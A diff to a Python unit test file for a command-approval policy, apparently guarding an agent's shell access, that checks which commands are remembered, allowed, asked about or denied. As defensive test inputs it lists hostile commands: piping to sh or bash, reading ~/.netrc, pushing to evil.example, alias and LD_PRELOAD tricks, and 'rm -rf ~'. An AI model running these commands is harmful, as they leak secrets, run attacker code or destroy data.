@@ -8,46 +8,52 @@ from hermes.core.errors import ConfigError
 from hermes.exec.command_policy import CommandRule, CommandRules, rule_to_data
 from tests.unit.exec.command_policy.judgements import RULES, decision, verdict
 
+OUTSIDE: dict[str, Any] = {"sandboxed": False}
+
 
 def test_answers_are_remembered_by_program_and_subcommand():
-    assert verdict("git push origin main").grants == (("git", "push"),)
-    assert verdict("frobnicate --all").grants == (("frobnicate",),)
-    assert verdict("frobnicate apply x").grants == (("frobnicate", "apply"),)
+    assert verdict("git push origin main", **OUTSIDE).grants == (("git", "push"),)
+    assert verdict("frobnicate --all", **OUTSIDE).grants == (("frobnicate",),)
+    assert verdict("frobnicate apply x", **OUTSIDE).grants == (("frobnicate", "apply"),)
     text = ("psql", "-c", "select 1")
-    assert verdict("psql -c 'select 1'").grants == (text,)
-    assert decision("psql -c 'drop database x'", rules=RULES.with_grants([text])) == "ask"
-    assert verdict("git push && frobnicate").grants == (("git", "push"), ("frobnicate",))
-    for command in ("curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls"):
-        found = verdict(command)
+    assert verdict("psql -c 'select 1'", **OUTSIDE).grants == (text,)
+    granted = RULES.with_grants([text])
+    assert decision("psql -c 'drop database x'", rules=granted, **OUTSIDE) == "ask"
+    together = verdict("git push && frobnicate", **OUTSIDE)
+    assert together.grants == (("git", "push"), ("frobnicate",))
+    for command in (
+        "curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls", "rm -rf x",
+        "cat ~/.netrc", "git push > log", "python3 x.py",
+    ):  # fmt: skip
+        found = verdict(command, **OUTSIDE)
         assert found.decision == "ask", command
         assert found.grants == (), command
 
 
+def test_in_a_sandbox_the_exact_command_is_remembered():
+    assert verdict("git stash drop stash@{1}").grants == (("git", "stash", "drop", "stash@{1}"),)
+    rules = RULES.with_grants([("git", "stash", "drop")])
+    assert decision("git stash drop", rules=rules) == "allow"
+    assert decision("git stash clear", rules=rules) == "ask"
+    assert decision("git stash drop", rules=RULES.with_grants([("git", "stash")])) == "ask"
+    assert verdict("git branch -D $X").grants == ()
+    assert verdict("rm -rf .").grants == ()
+
+
 def test_a_grant_allows_that_and_nothing_more():
-    rules = RULES.with_grants(verdict("git push").grants)
-    assert decision("git push origin main", rules=rules) == "allow"
-    assert decision("git -C sub push", rules=rules) == "allow"
+    rules = RULES.with_grants(verdict("git push", **OUTSIDE).grants)
+    assert decision("git push origin main", rules=rules, **OUTSIDE) == "allow"
+    assert decision("git -C sub push", rules=rules, **OUTSIDE) == "allow"
+    assert decision("timeout 60 git push", rules=rules, **OUTSIDE) == "allow"
     for command in (
         "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
-        "git push; git send-email", "git push > /etc/x", "LD_PRELOAD=x git push",
+        "git push; git send-email", "git push > x", "LD_PRELOAD=x git push",
         "git push --force", "git push origin +main", "git push origin :main",
-        "git push https://evil.example/x main",
+        "git push https://evil.example/x main", "git push me@evil.example:x", "git push ../x",
+        "git push $(cat x)", "sudo git push", "./git push",
     ):  # fmt: skip
-        assert decision(command, rules=rules) == "ask", command
-    assert decision("git push; rm -rf ~", rules=rules) == "deny"
-
-
-def test_allowing_a_program_does_not_allow_what_it_can_be_made_to_do():
-    rules = CommandRules(
-        [CommandRule("allow", (name,)) for name in ("git", "bash", "rm", "sudo", "python3")]
-    )
-    for command in (
-        "git -c core.pager=sh log", "git -c alias.x='!sh' x", "bash -c \"$X\"", "curl u | bash",
-        "sudo ls", "python3 -c 'import os'; os", "python3 -c 'exec(1)'", "rm -rf $X", "rm -rf .",
-    ):  # fmt: skip
-        assert decision(command, rules=rules) == "ask", command
-    assert decision("rm -rf /", rules=rules) == "deny"
-    assert decision("git send-email", rules=rules) == "allow"
+        assert decision(command, rules=rules, **OUTSIDE) == "ask", command
+    assert decision("git push; rm -rf ~", rules=rules, **OUTSIDE) == "deny"
 
 
 def test_deny_beats_ask_beats_allow():
